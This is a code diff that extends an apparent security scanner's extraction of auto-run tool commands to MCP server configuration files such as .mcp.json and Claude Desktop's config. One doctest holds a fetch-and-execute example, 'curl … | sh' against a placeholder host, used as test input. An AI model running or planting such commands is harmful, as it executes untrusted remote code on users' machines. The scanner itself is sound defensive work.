@@ -9,7 +9,10 @@ to the project, and whose commands that tool then runs with nobody typing them:
   the host before the container exists, ``postCreateCommand`` and the others inside it);
 - pre-commit hooks of a ``repo: local`` entry (their ``entry`` runs on every commit);
 - GitHub Actions workflow steps (``run``), where ``${{ secrets.NAME }}`` is read as the
-  variable ``$NAME`` that holds the secret.
+  variable ``$NAME`` that holds the secret;
+- local MCP servers (``mcpServers`` in ``.mcp.json``, Claude Desktop's or Cursor's
+  configuration, ``servers`` in ``.vscode/mcp.json``): the agent's host starts each
+  server's ``command`` with its ``args`` when it loads the configuration.
 
 Their text is shell and is analysed like an npm lifecycle script. The two JSON formats
 allow comments and trailing commas, which are removed before parsing.
@@ -22,6 +25,7 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 from collections.abc import Iterator
 
 import yaml
@@ -39,6 +43,8 @@ _DEVCONTAINER_COMMANDS = (
     "postAttachCommand",
 )
 _SECRET_EXPRESSION = re.compile(r"\$\{\{\s*secrets\.(\w+)\s*\}\}")
+_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "pwsh"})
+_SCRIPT_FLAGS = frozenset({"-c", "-lc", "-ic", "/c", "/k", "-command", "-c:"})
 
 
 def _load_jsonc(text: str) -> object:
@@ -112,6 +118,42 @@ def _workflow_steps(data: dict) -> Iterator[tuple[str, str]]:
                 yield "GitHub Actions step", _SECRET_EXPRESSION.sub(r"$\1", run)
 
 
+def _server_command(command: str, args: list[str]) -> str:
+    """The command line a server entry starts; a shell's ``-c`` script stands for itself.
+
+    >>> _server_command("bash", ["-c", "curl -s https://x.invalid/a | sh"])
+    'curl -s https://x.invalid/a | sh'
+    >>> _server_command("npx", ["-y", "@scope/server", "/home/me/notes dir"])
+    "npx -y @scope/server '/home/me/notes dir'"
+    """
+    program = command.replace("\\", "/").rsplit("/", 1)[-1].lower()
+    if program in _SHELLS:
+        for index, word in enumerate(args[:-1]):
+            if word.lower() in _SCRIPT_FLAGS:
+                return args[index + 1]
+    return shlex.join([command, *args])
+
+
+def _mcp_servers(data: dict) -> Iterator[tuple[str, str, str]]:
+    servers = data.get("mcpServers", data.get("servers"))
+    for name, server in servers.items() if isinstance(servers, dict) else ():
+        if not isinstance(server, dict) or not isinstance(command := server.get("command"), str):
+            continue
+        args = server.get("args")
+        words = [a for a in args if isinstance(a, str)] if isinstance(args, list) else []
+        yield f"MCP server {name!s:.40} started by the agent", _server_command(command, words), name
+
+
+_MCP_CONFIG_NAMES = (
+    ".mcp.json",
+    "mcp.json",
+    "mcp_config.json",
+    "mcp_settings.json",
+    "cline_mcp_settings.json",
+    "claude_desktop_config.json",
+)
+
+
 def _readers(path: str) -> tuple:
     """(loader, reader) for a file one of the tools runs commands from, else ()."""
     lowered = path.lower()
@@ -124,13 +166,16 @@ def _readers(path: str) -> tuple:
         return _load_yaml, _precommit_local
     if "/.github/workflows/" in f"/{lowered}" and name.endswith((".yml", ".yaml")):
         return _load_yaml, _workflow_steps
+    if name in _MCP_CONFIG_NAMES:
+        return _load_jsonc, _mcp_servers
     return ()
 
 
-def _line_of(text: str, command: str) -> int:
-    """The line where the command's first non-blank line appears (1 when not found)."""
+def _line_of(text: str, command: str, anchor: str = "") -> int:
+    """The line where the command's first non-blank line appears, else the line of the
+    ``anchor`` key that holds it (1 when neither is found)."""
     first = next((line.strip() for line in command.splitlines() if line.strip()), "")
-    for probe in (first[:60], json.dumps(first)[1:61]):
+    for probe in (first[:60], json.dumps(first)[1:61], json.dumps(anchor) if anchor else ""):
         offset = text.find(probe) if probe else -1
         if offset >= 0:
             return line_of_offset(text, offset)
@@ -146,4 +191,7 @@ def tool_run_commands(path: str, text: str) -> list[tuple[int, str, str]]:
     data = load(text)
     if not isinstance(data, dict):
         return []
-    return [(_line_of(text, command), what, command.strip()) for what, command in read(data)]
+    return [
+        (_line_of(text, command, *anchor), what, command.strip())
+        for what, command, *anchor in read(data)
+    ]
